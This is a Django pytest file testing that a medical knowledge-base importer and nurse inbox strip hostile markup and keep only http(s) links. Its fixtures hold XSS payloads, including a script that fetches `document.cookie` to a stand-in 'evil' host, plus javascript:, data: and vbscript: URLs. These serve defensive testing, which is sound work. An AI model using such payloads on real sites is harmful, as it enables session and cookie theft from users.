"""Imported content can carry an attacker's markup: a `javascript:` link, a <script>, an <img
onerror>. Links other than http(s) are dropped at import and never become links on any page
(the nurse's draft rendered one before); HTML in imported text is cleaned out at import."""

from __future__ import annotations

import dataclasses
import json
import re
import shutil
import subprocess
from pathlib import Path

import pytest

from assistant.models import DraftReply, Message
from assistant.serializers import message_to_dict
from knowledge.corpus import clean_markup, safe_link
from knowledge.importers import import_jsonl
from knowledge.models import Article, Section

pytestmark = pytest.mark.django_db

HOSTILE = {
    "id": "EVIL_0001_Sec1",
    "source": "EVIL",
    "title": "Gout <img src=x onerror=alert(1)>",
    "question": "What is gout? <script>alert('q')</script>",
    "text": (
        "Gout is a kind of arthritis.<script>fetch('//evil/'+document.cookie)</script> "
        '<a href="javascript:alert(2)" onclick="steal()">Read more</a> &amp; rest &lt; 5.'
    ),
    "url": "javascript:alert(document.domain)",
}


def test_import_drops_non_http_links_and_cleans_markup(tmp_path, admin_user):
    path = tmp_path / "hostile.jsonl"
    path.write_text(json.dumps(HOSTILE) + "\n")
    import_jsonl(path, approve_as=admin_user)
    article = Article.objects.get()
    assert article.url == ""
    section = Section.objects.select_related("current_approved").get()
    version = section.current_approved
    stored = f"{article.focus} {version.question} {version.text}"
    for bad in ("<script", "onerror", "onclick", "javascript:", "<a ", "<img"):
        assert bad not in stored, bad
    assert version.text.startswith("Gout is a kind of arthritis.")
    assert "Read more & rest < 5." in version.text  # the words stay, as plain text


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        " JavaScript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:x",
        "//evil.example/x",
        "ftp://files.example/x",
    ],
)
def test_only_http_links_survive_import(url):
    assert safe_link(url) == ""


def test_http_links_and_plain_text_pass_unchanged():
    assert safe_link("https://medlineplus.gov/gout.html") == "https://medlineplus.gov/gout.html"
    assert safe_link("HTTP://example.org/a") == "HTTP://example.org/a"
    plain = "Blood pressure under 120/80 (<130 for some) is normal; A & B."
    assert clean_markup(plain) == plain


def test_the_nurse_draft_never_renders_a_javascript_link(
    client, plain_nurse, emergency, small_retriever_inbox
):
    """An index built before import-time cleaning can still hand the draft such a URL."""
    small_retriever_inbox.sections = [
        dataclasses.replace(s, url="javascript:alert(document.cookie)")
        for s in small_retriever_inbox.sections
    ]
    client.force_login(plain_nurse)
    html = client.get(f"/inbox/{emergency.pk}/").content.decode()
    draft = DraftReply.objects.get(escalation=emergency)
    assert draft.citations  # the draft did cite the sections
    assert all(c["url"] == "" for c in draft.citations)
    assert "javascript:" not in html


HOSTILE_URLS = ("javascript:alert(document.cookie)", " JaVaScRiPt:alert(1)", "data:text/html,x")


def _cited_answer(escalation, urls):
    """An answer as saved before import-time cleaning: its citations keep whatever URL the
    content had then."""
    return Message.objects.create(
        conversation=escalation.conversation,
        role=Message.Role.ASSISTANT,
        kind=Message.Kind.ANSWER,
        text="Gout is a kind of arthritis.",
        citations=[
            {
                "n": n,
                "section_id": f"EVIL_000{n}_Sec1",
                "version": 1,
                "title": f"Cited {n}",
                "source": "EVIL",
                "url": url,
                "text": "Gout is a kind of arthritis.",
            }
            for n, url in enumerate(urls, start=1)
        ],
    )


def test_a_cited_non_http_link_is_never_sent_nor_rendered_to_staff(nurse_client, emergency):
    answer = _cited_answer(emergency, (*HOSTILE_URLS, "https://medlineplus.gov/gout.html"))
    # What every socket sends (the chat's, and the inbox thread's live "watch" stream).
    frame = message_to_dict(answer)
    assert [c["url"] for c in frame["citations"]] == [
        "",
        "",
        "",
        "https://medlineplus.gov/gout.html",
    ]
    # The nurse's thread page: each citation is still listed, as plain text.
    html = nurse_client.get(f"/inbox/{emergency.pk}/").content.decode()
    assert "Cited 1" in html and "Cited 3" in html
    assert "javascript:" not in html.lower() and "data:text" not in html
    assert 'href="https://medlineplus.gov/gout.html"' in html


JS_DIR = Path(__file__).resolve().parents[2] / "static" / "js"


def test_no_script_makes_a_link_of_an_address_the_server_sent_unchecked():
    """The inbox script once set `a.href = c.url` for a draft's citations. Every address from
    the server goes through safeUrl (http(s) only) or sitePath (the site's own paths) first."""
    raw = re.compile(r"href\s*[:=]\s*[A-Za-z_]+\.url\b")
    for script in JS_DIR.glob("*.js"):
        assert not raw.findall(script.read_text()), script.name


@pytest.mark.skipif(not shutil.which("node"), reason="node not installed")
@pytest.mark.parametrize("script", ["inbox.js", "chat.js"])
def test_the_scripts_link_checks_let_only_http_and_the_sites_paths_through(script):
    source = (JS_DIR / script).read_text()
    functions = re.findall(r"function (?:safeUrl|sitePath)\(url\) \{.*?\n  \}", source, re.S)
    cases = [
        *HOSTILE_URLS,
        "vbscript:x",
        "//evil.example/x",
        "/\\evil.example",
        "https://",
        "https://medlineplus.gov/gout.html",
        "HTTP://example.org/a",
        "/inbox/12/",
        "",
    ]
    program = (
        "\n".join(functions)
        + f"""
    var cases = {json.dumps(cases)};
    console.log(JSON.stringify({{
      safeUrl: cases.map(safeUrl),
      sitePath: typeof sitePath === "function" ? cases.map(sitePath) : null
    }}));
    """
    )
    out = json.loads(
        subprocess.run(["node", "-e", program], capture_output=True, text=True, check=True).stdout
    )
    links = {"https://medlineplus.gov/gout.html", "HTTP://example.org/a"}
    assert out["safeUrl"] == [c if c in links else "" for c in cases]
    if script == "inbox.js":
        assert out["sitePath"] == [c if c == "/inbox/12/" else "" for c in cases]
